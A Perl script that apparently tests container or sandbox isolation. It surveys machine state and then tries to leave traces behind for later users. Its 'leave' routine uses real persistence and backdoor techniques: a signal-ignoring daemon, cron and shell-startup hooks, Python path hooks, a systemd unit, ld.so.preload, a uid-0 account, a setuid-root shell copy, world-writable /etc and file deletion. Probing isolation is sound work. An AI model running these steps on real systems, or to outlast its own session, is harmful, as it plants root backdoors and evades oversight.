# Runs inside a cell: `perl - look|leave|both`. Prints what can be seen of a machine's state, one `key<TAB>value` a line, and tries to leave something for whoever
# comes next, one `left<TAB>kind<TAB>ok or why not` a line. Perl: it starts in a tenth of Python's time and has every call needed here built in.
use strict;
use warnings;

my $name = "carried";
my $key = 0x0C0FFEE;
my $recent = $^T - 3600; # younger than any image
my @places = qw(/ /etc /root /home /opt /srv /mnt /media /boot /tmp /run /run/lock /dev /dev/shm /dev/mqueue /var /var/tmp /var/lib /var/cache /var/log /var/spool
    /var/spool/cron/crontabs /usr /usr/bin /usr/sbin /usr/lib /usr/local/bin /usr/local/lib /usr/local/lib/python3.11/dist-packages /usr/lib/python3/dist-packages
    /etc/cron.d /etc/cron.daily /etc/profile.d /etc/systemd/system /etc/init.d /etc/sudoers.d /etc/security /etc/skel /etc/ld.so.conf.d /etc/apt/apt.conf.d);
# Of these the names are enough, and of the programs in them those whose times are tried.
my %large = map { $_ => 1 } qw(/usr/bin /usr/sbin /usr/lib /usr/lib/python3/dist-packages /dev /etc/init.d /var/lib);
my @sysctls = qw(kernel/core_pattern kernel/hostname kernel/panic kernel/msgmax kernel/shmmax vm/swappiness vm/overcommit_memory fs/file-max fs/mqueue/msg_max
    net/ipv4/ip_forward net/ipv4/ip_default_ttl);
my $hostname = "$name-host";
# Perl's syscall wants strings that it may write to.
my ($attribute, $type, $data, $fstab, $mark) = ("user.$name", "user", "data", "/etc/fstab", "x");

sub slurp { my ($path) = @_; open(my $file, "<", $path) or return "-"; local $/; my $text = <$file>; $text //= "-"; $text =~ s/\s+$//; return $text; }
sub say_is { my ($what, $value) = @_; $value =~ s/[\t\n]/ /g; print "$what\t$value\n"; }
sub abstract { return pack("S a*", 1, "\0$name"); }
sub local_port { return pack("S n C4 x8", 2, 4747, 127, 0, 0, 1); }

sub look {
    for my $place (@places) {
        opendir(my $directory, $place) or next;
        my @names;
        for my $entry (sort readdir $directory) {
            next if $entry eq ".." or ($place eq "/" and $entry =~ /^(proc|sys|dev)$/);
            if ($large{$place}) { push @names, $entry; next; }
            my @s = lstat("$place/$entry") or next;
            my $size = -d _ ? "" : $s[7];
            say_is("file $place/$entry", sprintf("%o", $s[2]) . " $s[4]:$s[5] $size " . ($s[9] > $recent ? "new" : $s[9]) . (-l _ ? " " . readlink("$place/$entry") : ""));
        }
        say_is("names $place", "@names");
    }
    say_is("times $_", join(" ", (lstat $_)[2, 4, 5, 7, 9])) for qw(/usr/bin/env /usr/bin/dash /usr/bin/perl /usr/bin);
    my $value = "\0" x 16;
    say_is("xattr", syscall(191, $fstab, $attribute, $value, 16) > 0 ? $value : "-");
    opendir(my $proc, "/proc") or die;
    my %running; $running{slurp("/proc/$_/comm")}++ for grep { /^\d+$/ and $_ != $$ } readdir $proc;
    say_is("process $_", 1) for keys %running;
    say_is("sysctl $_", slurp("/proc/sys/$_")) for @sysctls;
    say_is("limits", slurp("/proc/self/limits"));
    say_is("mounts", join(" ", sort map { (split)[1] } split(/\n/, slurp("/proc/self/mounts"))));
    say_is("shm", defined shmget($key, 0, 0) ? "there" : "-");
    say_is("sem", defined semget($key, 0, 0) ? "there" : "-");
    say_is("msg", defined msgget($key, 0) ? "there" : "-");
    say_is("mq", syscall(240, $name, 0, 0, 0) >= 0 ? "there" : "-");
    say_is("key $_", syscall(250, 10, $_, $type, $name, 0) > 0 ? "there" : "-") for (-3, -4, -5);
    socket(my $s, 1, 1, 0); say_is("abstract", connect($s, abstract()) ? "there" : "-");
    socket(my $t, 2, 1, 0); say_is("port", connect($t, local_port()) ? "there" : "-");
    say_is("umask", umask);
}

sub left { my ($kind, $good) = @_; my $why = $good ? "ok" : "$!"; print "left\t$kind\t$why\n"; }
sub put { my ($path, $text) = @_; open(my $file, ">>", $path) or return 0; print $file $text; return close($file); }

sub leave {
    # The daemon first: it forks, and must not hold what comes after.
    if (!defined(my $child = fork())) { left("daemon", 0); } elsif ($child == 0) { become_daemon(); } else { waitpid($child, 0); left("daemon", 1); }
    for my $place (@places) { left("file $place", put("$place/$name", "x")); }
    left("startup $_", put($_, "touch /tmp/$name\n")) for qw(/etc/profile /etc/bash.bashrc /root/.bashrc /root/.profile /etc/environment /etc/profile.d/a.sh /etc/rc.local);
    left("cron $_", put($_, "* * * * * root touch /tmp/$name\n")) for qw(/etc/crontab /etc/cron.d/a /etc/cron.daily/a);
    left("python $_", put($_, "import os\n")) for map { ("$_/$name.pth", "$_/sitecustomize.py") } qw(/usr/local/lib/python3.11/dist-packages /usr/lib/python3/dist-packages);
    left("unit", put("/etc/systemd/system/$name.service", "[Service]\nExecStart=/tmp/$name\n"));
    left("account $_", put($_, "$name:x:0:0::/:/bin/sh\n")) for qw(/etc/passwd /etc/group /etc/shadow);
    left("setuid", put("/usr/local/bin/$name-root", slurp("/bin/dash")) && chmod(04755, "/usr/local/bin/$name-root"));
    left("times", utime(1, 1, "/usr/bin/env", "/etc/fstab", "/etc/os-release") == 3);
    left("mode", chmod(0777, "/etc/fstab", "/etc") == 2);
    left("owner", chown(1234, 1234, "/etc/issue") == 1);
    left("removed", unlink("/etc/issue.net") && rename("/etc/debian_version", "/etc/debian_version.$name"));
    left("xattr", syscall(188, $fstab, $attribute, $mark, 1, 0) == 0);
    left("shm", defined shmget($key, 4096, 01666));
    left("sem", defined semget($key, 1, 01666));
    left("msg", defined msgget($key, 01666));
    left("mq", syscall(240, $name, 0102, 0666, 0) >= 0);
    left("key $_", syscall(248, $type, $name, $data, 4, $_) > 0) for (-3, -4, -5);
    left("hostname", syscall(170, $hostname, length $hostname) == 0);
    left("sysctl $_", put("/proc/sys/$_", /hostname/ ? $hostname : /pattern/ ? "/tmp/$name" : "7")) for @sysctls;
    left("preload", put("/etc/ld.so.preload", "/tmp/$name.so\n"));
}

sub become_daemon {
    syscall(112); # setsid
    exit 0 if fork();
    $0 = "$name-daemon";
    open(STDIN, "<", "/dev/null"); open(STDOUT, ">", "/dev/null"); open(STDERR, ">", "/dev/null");
    socket(my $s, 1, 1, 0); bind($s, abstract()); listen($s, 8);
    socket(my $t, 2, 1, 0); bind($t, local_port()); listen($t, 8);
    $SIG{$_} = "IGNORE" for qw(TERM HUP INT);
    sleep 1000 while 1;
}

look() unless $ARGV[0] eq "leave";
leave() unless $ARGV[0] eq "look";
